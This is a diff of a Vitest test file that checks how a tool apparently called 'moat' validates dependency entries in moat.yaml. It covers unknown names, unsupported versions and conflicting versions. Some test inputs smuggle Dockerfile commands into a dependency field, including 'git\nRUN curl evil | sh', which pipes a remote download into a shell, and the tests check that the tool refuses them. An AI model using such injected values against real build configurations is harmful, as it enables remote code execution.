@@ -5,8 +5,7 @@
 import { describe, expect, it } from 'vitest';
 import { loadWorkspaceConfig } from '../../../src/config/load.js';
 import { mergeRunOptions } from '../../../src/config/merge.js';
-import { dependencyProblem } from '../../../src/deps/grammar.js';
-import { parseSpec } from '../../../src/deps/parse.js';
+import { dependencyProblem, parseSpec } from '../../../src/deps/parse.js';
 import { renderDockerfile } from '../../../src/image/dockerfile.js';
 import { imageReferenceProblem } from '../../../src/image/reference.js';
 import { errorOf, problemLines, workspace } from './helpers.js';
@@ -96,10 +95,30 @@ describe("dependencies: each entry against its form's grammar", () => {
     expect(() => parseSpec('node@20\nRUN id')).toThrow(/space, line break or control character/);
   });
 
+  it('an unknown name is refused at moat.yaml:LINE:COL with "did you mean" and the fix', async () => {
+    const dir = await workspace({ 'moat.yaml': 'dependencies:\n  - node@20\n  - ripgrap\n  - zzzzzzzzzz@1\n' });
+    expect(problemLines(await errorOf(loadWorkspaceConfig(dir)))).toEqual([
+      'moat.yaml:3:5: dependencies[1]: unknown dependency "ripgrap"; did you mean "ripgrep"? moat deps list shows the built-in names ("apt:ripgrap" or "npm:ripgrap" for a Debian or npm package).',
+      'moat.yaml:4:5: dependencies[2]: unknown dependency "zzzzzzzzzz@1". moat deps list shows the built-in names ("apt:zzzzzzzzzz" or "npm:zzzzzzzzzz" for a Debian or npm package).',
+    ]);
+  });
+
+  it('a version outside the allowed list, and two versions of one tool, are refused at moat.yaml:LINE:COL', async () => {
+    const dir = await workspace({ 'moat.yaml': 'dependencies: [node@17, git@2]\n' });
+    expect(problemLines(await errorOf(loadWorkspaceConfig(dir)))).toEqual([
+      'moat.yaml:1:16: dependencies[0]: unsupported version "17" for node in dependency "node@17". Allowed: 18, 20, 22, 24. moat deps info node lists them.',
+      'moat.yaml:1:25: dependencies[1]: dependency "git@2": git has no versions to choose from. Write git without a version (or apt:<package>=<version> for an exact Debian version).',
+    ]);
+    const both = await workspace({ 'moat.yaml': 'dependencies: [node@20, npm:typescript, node@22]\n' });
+    expect(problemLines(await errorOf(loadWorkspaceConfig(both)))).toEqual([
+      'moat.yaml:1:15: dependencies: conflicting versions of node: 20 (from "node@20") and 22 (from "node@22"). Keep one version of node in the dependencies of moat.yaml.',
+    ]);
+  });
+
   it('a bad entry is an error at moat.yaml:LINE:COL', async () => {
     const dir = await workspace({ 'moat.yaml': 'dependencies:\n  - node@20\n  - "git\\nRUN curl evil | sh"\n' });
     expect(problemLines(await errorOf(loadWorkspaceConfig(dir)))).toEqual([
-      'moat.yaml:3:5: dependencies[1]: dependency "git\\nRUN curl evil | sh" has a space, line break or control character; write one tool per entry, e.g. "node@20"',
+      'moat.yaml:3:5: dependencies[1]: dependency "git\\nRUN curl evil | sh" has a space, line break or control character. Write one tool per entry, e.g. "node@20".',
     ]);
   });
 });
